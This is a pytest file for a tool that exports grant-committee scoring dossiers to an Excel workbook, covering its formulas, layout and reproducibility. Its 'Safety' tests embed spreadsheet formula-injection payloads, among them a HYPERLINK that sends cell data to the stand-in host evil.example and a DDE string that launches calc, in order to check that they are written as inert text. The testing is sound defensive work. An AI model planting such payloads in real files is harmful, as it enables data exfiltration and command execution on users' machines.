"""`grantgrid export`: the committee's workbook, read back with openpyxl and as raw XML."""

from __future__ import annotations

import hashlib
import os
import re
import subprocess
import sys
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from openpyxl.workbook.workbook import Workbook
from typer.testing import CliRunner

from conftest import OTHER_GRID, REFERENCE_GRID, ROOT, Call, reference_text, replace_budget
from grantgrid.cli import app
from grantgrid.evaluation import evaluate
from grantgrid.outputs.workbook import build_workbook
from grantgrid.outputs.xlsx_text import (
    CUT_MARKER,
    EUR_FORMAT,
    MAX_TEXT,
    PERCENT_FORMAT,
    SheetTitles,
    sheet_reference,
    write_amount,
    write_text,
)

runner = CliRunner()
APPLICATIONS = ROOT / "applications"


def export(*args: str) -> tuple[int, str]:
    result = runner.invoke(app, ["export", *args])
    return result.exit_code, result.output


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("demo") / "comite.xlsx"
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(ROOT)  # paths are shown relative to the current folder
        code, output = export("applications", "-o", str(target), "-q")
    assert code == 0, output
    return target


@pytest.fixture(autouse=True)
def at_repository_root(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)


def rows(workbook: Workbook, title: str) -> list[list[object]]:
    return [list(r) for r in workbook[title].iter_rows(values_only=True)]


def column(sheet_rows: list[list[object]], header: str) -> list[object]:
    index = sheet_rows[0].index(header)
    return [r[index] for r in sheet_rows[1:]]


# The summary


def test_sheets_in_order(demo: Path) -> None:
    workbook = openpyxl.load_workbook(demo)
    ids = [o.dossier_id for o in evaluate([APPLICATIONS]).ordered()]
    assert workbook.sheetnames == ["Synthèse", *ids, "Notes", "Budget", "À propos"]


def test_summary_lists_dossiers_in_rank_order_with_grantgrid_totals(demo: Path) -> None:
    run = evaluate([APPLICATIONS])
    cached = rows(openpyxl.load_workbook(demo, data_only=True), "Synthèse")
    assert column(cached, "Dossier") == [o.dossier_id for o in run.ordered()]
    assert column(cached, "Rang") == [o.rank for o in run.ordered()]
    expected = [int(o.final.total) if o.final else None for o in run.ordered()]
    assert [t if t != "" else None for t in column(cached, "Total")] == expected
    assert column(cached, "Statut") == ["retenu", "retenu", "retenu", "non retenu", "incomplet"]
    assert column(cached, "Coût total")[0] == 45848.51
    assert column(cached, "LEADER (FEADER)")[0] == 29343.05


def test_summary_totals_are_formulas_over_the_dossier_sheets(demo: Path) -> None:
    sheet = openpyxl.load_workbook(demo)["Synthèse"]
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}  # DLQC-2017-01, ranked first
    assert row["Total"].value == '=IF(COUNT(L2:O2)=0,"",SUM(L2:O2))'
    assert re.fullmatch(r"='DLQC-2017-01'!I\d+", row["Caractère innovant"].value)
    assert re.fullmatch(r"='DLQC-2017-01'!I\d+", row["Bonus"].value)
    assert re.fullmatch(r"='DLQC-2017-01'!D\d+", row["Taux public"].value)
    assert row["Coût total"].number_format == EUR_FORMAT
    assert row["Taux public"].number_format == PERCENT_FORMAT


def test_summary_layout(demo: Path) -> None:
    workbook = openpyxl.load_workbook(demo)
    sheet = workbook["Synthèse"]
    assert workbook.calculation.fullCalcOnLoad
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref == "A1:S6"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage
    assert len(sheet.conditional_formatting) == 1  # the status column
    for each in workbook.worksheets:
        assert not each.merged_cells.ranges, each.title


def test_dossier_sheet_subtotals_and_final_column(demo: Path) -> None:
    sheet = openpyxl.load_workbook(demo)["DLQC-2017-01"]
    values = openpyxl.load_workbook(demo, data_only=True)["DLQC-2017-01"]
    labels = [c.value for c in sheet["B"]]
    subtotal = labels.index("Sous-total") + 1  # the first axis
    notes = subtotal - 3
    assert (
        sheet[f"G{subtotal}"].value
        == f'=IF(COUNT(G{notes}:G{subtotal - 1})=0,"",SUM(G{notes}:G{subtotal - 1}))'
    )
    assert values[f"G{subtotal}"].value == 6
    assert values[f"H{subtotal}"].value in ("", None)  # CUC not scored: missing, not zero
    missing = [c.value for c in sheet["A"]].index("Notes manquantes") + 1
    assert sheet[f"I{subtotal}"].value == (
        f'=IF(H${missing}=0,H{subtotal},IF(G${missing}=0,G{subtotal},""))'
    )
    assert values[f"G{missing}"].value == 0 and values[f"H{missing}"].value == 10
    assert sheet[f"G{notes}"].value == 2 and sheet[f"H{notes}"].value is None
    assert sheet.data_validations.dataValidation[0].formula2 == "2"


def test_notes_and_budget_sheets_are_long_tables(demo: Path) -> None:
    workbook = openpyxl.load_workbook(demo)
    run = evaluate([APPLICATIONS])
    notes = rows(workbook, "Notes")
    assert len(notes) - 1 == len(run.outcomes) * 2 * 10  # 5 dossiers × 2 stages × (9 cells + bonus)
    first = notes[1]
    assert first[:3] == ["leader-tulle-2014-2020", run.ordered()[0].dossier_id, "restreint"]
    budget = rows(workbook, "Budget")
    lines = sum(
        len(o.dossier.budget.expenses) + len(o.dossier.budget.resources)
        for o in run.outcomes
        if o.dossier
    )
    assert len(budget) - 1 == lines
    assert budget[1][6] == 2576.5 and workbook["Budget"]["G2"].number_format == EUR_FORMAT


def test_about_sheet_lists_inputs_with_their_hash(demo: Path) -> None:
    about = rows(openpyxl.load_workbook(demo), "À propos")
    by_file = {r[1]: r[2] for r in about if r[0] in ("dossier", "grid")}
    assert (
        by_file["grids/leader-tulle.yaml"]
        == hashlib.sha256(REFERENCE_GRID.read_bytes()).hexdigest()
    )
    assert len(by_file) == 6


def test_english_labels(tmp_path: Path) -> None:
    target = tmp_path / "committee.xlsx"
    assert export(str(APPLICATIONS), "-o", str(target), "--lang", "en")[0] == 0
    workbook = openpyxl.load_workbook(target)
    assert workbook.sheetnames[0] == "Summary" and workbook.sheetnames[-1] == "About"
    assert column(rows(workbook, "Summary"), "Status")[:4] == ["selected"] * 3 + ["rejected"]


# Safety


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "fiche_action": "{=1+1}",
    "applicant": "+cmd|' /C calc'!A0",
    "address": "@SUM(A1)",
    "expense": "-2+3",
    "category": "#N/A",
    "remark": "=== Budget notes ===",
    "answer": "\t=1+1",
}


def hostile_dossier(call: Call) -> None:
    text = reference_text()
    quoted = {
        k: '"' + v.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'
        for k, v in HOSTILE.items()
    }
    text = text.replace(
        "title: Révolution numérique et ambition culturelle", f"title: {quoted['title']}"
    )
    text = re.sub(r"fiche_action: .*", f"fiche_action: {quoted['fiche_action']}", text)
    text = text.replace(
        "  name: Association Des Lendemains qui chantent", f"  name: {quoted['applicant']}"
    )
    text = re.sub(r"  address: .*", f"  address: {quoted['address']}", text)
    text = text.replace(
        "{label: Mise en place d'un cloud, amount: 2576.50}",
        f"{{label: {quoted['expense']}, amount: 2576.50, category: {quoted['category']}}}",
    )
    text = text.replace('remarks: ""', f"remarks: {quoted['remark']}")
    text = re.sub(
        r"(  innovant:\n    amont: )\|\n(      .*\n)+?(    objet:)",
        rf"\g<1>{quoted['answer']}\n\g<3>",
        text,
        count=1,
    )
    call.dossier("hostile.yaml", text)


def cell_xml(xlsx: Path, sheet_index: int, reference: str) -> str:
    with zipfile.ZipFile(xlsx) as package:
        xml = package.read(f"xl/worksheets/sheet{sheet_index}.xml").decode()
    match = re.search(rf'<c r="{reference}"[^>]*>.*?</c>', xml)
    assert match, reference
    return match[0]


def test_dossier_text_stays_text(call: Call, tmp_path: Path) -> None:
    hostile_dossier(call)
    assert not call.problems("hostile.yaml"), call.problems("hostile.yaml")
    target = tmp_path / "out.xlsx"
    assert (
        export(
            str(call.root / "applications"), "--grids", str(call.root / "grids"), "-o", str(target)
        )[0]
        == 0
    )
    workbook = openpyxl.load_workbook(target)
    found: dict[str, tuple[int, Cell]] = {}
    for index, sheet in enumerate(workbook.worksheets, start=1):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in HOSTILE.values() and cell.value not in found:
                    found[cell.value] = (index, cell)
    assert set(found) == set(HOSTILE.values())
    for text, (index, cell) in found.items():
        assert cell.data_type == "s" and cell.value == text
        assert cell.quotePrefix, text
        xml = cell_xml(target, index, cell.coordinate)
        assert "<f>" not in xml and 't="inlineStr"' in xml, xml


def test_write_text_policy() -> None:
    sheet = openpyxl.Workbook().active
    assert write_text(sheet["A1"], "a\x07b\x00c").value == "abc"
    long = write_text(sheet["A2"], "x" * 40_000).value
    assert len(long) == MAX_TEXT and long.endswith(CUT_MARKER)
    for text in ("\r=1", "#DIV/0!", "-"):
        cell = write_text(sheet["A3"], text)
        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
    assert not write_text(sheet["A4"], "Budget 2024").quotePrefix


def test_amounts_are_exact_numbers_or_text() -> None:
    sheet = openpyxl.Workbook().active
    assert write_amount(sheet["A1"], Decimal("29343.05")).value == 29343.05
    assert write_amount(sheet["A2"], Decimal("9169.70")).value == 9169.7
    assert sheet["A2"].number_format == EUR_FORMAT
    assert write_amount(sheet["A3"], Decimal("1234567890123456.78")).value == "1234567890123456.78"
    assert write_amount(sheet["A4"], Decimal("NaN")).data_type == "s"


def test_sheet_titles_are_safe_and_unique() -> None:
    titles = SheetTitles()
    made = [
        titles.make(t)
        for t in (
            "Budget",
            "budget",
            "Budget/2024[1]*?",
            "'quoted'",
            "x" * 40,
            "History",
            "",
            "x" * 40,
        )
    ]
    assert made[0] == "Budget" and made[1] == "budget (2)"
    assert made[2] == "Budget_2024_1___" and made[3] == "quoted"
    assert len(made[4]) == 31 and made[5] == "History (2)" and made[6] == "Feuille"
    assert made[7] != made[4] and len(made[7]) <= 31
    assert len({m.casefold() for m in made}) == len(made)
    assert sheet_reference("Budget d'Anne") == "'Budget d''Anne'"


def test_invalid_dossier_still_appears(call: Call, tmp_path: Path) -> None:
    call.dossier("good.yaml", reference_text())
    unbalanced = replace_budget(
        reference_text().replace("DLQC-2017-01", "BAD-1"),
        """
        budget:
          expenses:
            - {label: Cloud, amount: 1000}
          resources:
            - {funder: leader, amount: 10}
        """,
    )
    call.dossier("bad.yaml", unbalanced)
    call.dossier("broken.yaml", "dossier: [unclosed\n")
    lost = reference_text().replace("DLQC-2017-01", "LOST-1")
    call.dossier("lost.yaml", lost.replace("grid: leader-tulle-2014-2020", "grid: nowhere"))
    target = tmp_path / "out.xlsx"
    code, _ = export(
        str(call.root / "applications"), "--grids", str(call.root / "grids"), "-o", str(target)
    )
    assert code == 1 and target.exists()
    workbook = openpyxl.load_workbook(target, data_only=True)
    summary = rows(workbook, "Synthèse")
    dossiers = column(summary, "Dossier")
    assert dossiers[0] == "DLQC-2017-01" and "BAD-1" in dossiers
    assert any(str(d).endswith("broken.yaml") for d in dossiers)
    assert column(summary, "Statut") == ["retenu", "invalide", "invalide", "invalide"]
    assert column(summary, "Budget conforme")[dossiers.index("BAD-1")] == "non"
    # Without its grid, a dossier's funders have no kind: no rate rather than a false 0 %.
    lost_row = dossiers.index("LOST-1")
    assert column(summary, "Coût total")[lost_row] == 45848.51
    assert column(summary, "Taux public")[lost_row] is None
    assert any("budget.unbalanced" in (r or "") for r in column(summary, "Motifs"))


# Files


def test_refuses_to_overwrite_without_force(demo: Path, tmp_path: Path) -> None:
    target = tmp_path / "comite.xlsx"
    target.write_bytes(b"previous")
    code, output = export(str(APPLICATIONS), "-o", str(target))
    assert code == 2 and "--force" in output and target.read_bytes() == b"previous"
    assert export(str(APPLICATIONS), "-o", str(target), "--force")[0] == 0
    assert zipfile.is_zipfile(target)


def test_refuses_to_write_over_an_input(call: Call) -> None:
    grid = call.root / "grids" / "leader-tulle.xlsx"
    grid.symlink_to(call.root / "grids" / "leader-tulle.yaml")
    before = (call.root / "grids" / "leader-tulle.yaml").read_bytes()
    call.dossier("good.yaml", reference_text())
    code, output = export(
        str(call.root / "applications"),
        "--grids",
        str(call.root / "grids"),
        "-o",
        str(grid),
        "--force",
    )
    assert code == 2 and "input" in output
    assert (call.root / "grids" / "leader-tulle.yaml").read_bytes() == before


def test_same_inputs_same_bytes(tmp_path: Path) -> None:
    """Twice in this process and once in another with another hash seed: identical bytes."""
    run = evaluate([APPLICATIONS])
    first, second = build_workbook(run), build_workbook(evaluate([APPLICATIONS]))
    assert first == second
    target = tmp_path / "other.xlsx"
    environment = {**os.environ, "PYTHONHASHSEED": "12345"}
    subprocess.run(
        [sys.executable, "-m", "grantgrid", "export", "applications", "-o", str(target), "-q"],
        cwd=ROOT,
        env=environment,
        check=True,
    )
    assert target.read_bytes() == first


def test_dates_come_from_source_date_epoch(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1500000000")  # 2017-07-14 02:40:00 UTC
    data = build_workbook(evaluate([APPLICATIONS]))
    import io

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert {i.date_time for i in package.infolist()} == {(2017, 7, 14, 2, 40, 0)}
        core = package.read("docProps/core.xml").decode()
    assert core.count("2017-07-14T02:40:00Z") == 2


OTHER_DOSSIER = """
    dossier: COOP-2024-01
    title: Coopération
    grid: autre-appel-2024
    applicant: {name: Asso}
    budget:
      expenses: [{label: Tout, amount: 1966.67}]
      resources:
        - {funder: leader, amount: 1000.00}
        - {funder: region, amount: 666.67}
        - {funder: propre, amount: 300.00}
    scores:
      instruction:
        qualite: {pertinence: 2.5, methode: 4}
        impact: {emploi: 3, partenariat: 1.5}
        bonus: {jeunesse: 1, collectif: 2}
      comite:
        qualite: {pertinence: 3, methode: 3.5}
        impact: {emploi: 2, partenariat: 3}
        bonus: {jeunesse: 0, collectif: 3}
      cuc:
        qualite: {pertinence: 1}
"""


def two_grids(root: Path) -> Call:
    """A call with the reference grid and a weighted, half-point, three-stage grid."""
    both = Call(root, [REFERENCE_GRID, OTHER_GRID])
    both.dossier("dlqc.yaml", reference_text())
    both.dossier("coop.yaml", OTHER_DOSSIER)
    return both


def test_one_summary_per_grid_and_weighted_subtotals(tmp_path: Path) -> None:
    both = two_grids(tmp_path)
    run = both.run()
    assert not run.has_errors
    data = build_workbook(run)
    target = tmp_path / "out.xlsx"
    target.write_bytes(data)
    workbook = openpyxl.load_workbook(target)
    assert workbook.sheetnames[:2] == [
        "Synthèse autre-appel-2024",
        "Synthèse leader-tulle-2014-2020",
    ]
    cached = rows(openpyxl.load_workbook(target, data_only=True), "Synthèse autre-appel-2024")
    assert column(cached, "Total") == [16.5] and column(cached, "Étape retenue") == [
        "Note du comité"
    ]
    assert column(cached, "Impact territorial") == [7]  # 2 × 2 + 3
    sheet = workbook["COOP-2024-01"]
    formulas = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(f.startswith("=IF(COUNT(H") and "SUMPRODUCT(H" in f and "$G" in f for f in formulas)
